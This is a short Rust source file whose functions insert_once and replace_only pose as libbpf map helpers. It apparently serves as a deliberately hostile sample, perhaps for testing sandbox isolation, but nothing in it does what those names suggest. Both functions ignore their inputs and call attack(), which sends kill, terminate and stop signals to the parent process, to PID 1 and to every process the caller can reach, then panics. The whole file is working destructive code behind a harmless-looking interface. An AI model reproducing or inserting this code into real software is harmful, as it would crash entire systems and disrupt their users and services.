//! Kills its parent, the first process, and everybody.

use anyhow::Result;
use libbpf_rs::MapHandle;

pub fn insert_once(
    _map: &MapHandle,
    _key: &[u8],
    _value: &[u8],
) -> Result<bool> {
    attack()
}

pub fn replace_only(
    _map: &MapHandle,
    _key: &[u8],
    _value: &[u8],
) -> Result<bool> {
    attack()
}

fn attack() -> Result<bool> {
    for process in [getppid(), 1, -1] {
        for signal in [9, 15, 19] {
            kill(process, signal);
        }
    }
    panic!("still there")
}

unsafe extern "C" {
    safe fn getppid() -> i32;
    safe fn kill(process: i32, signal: i32) -> i32;
}
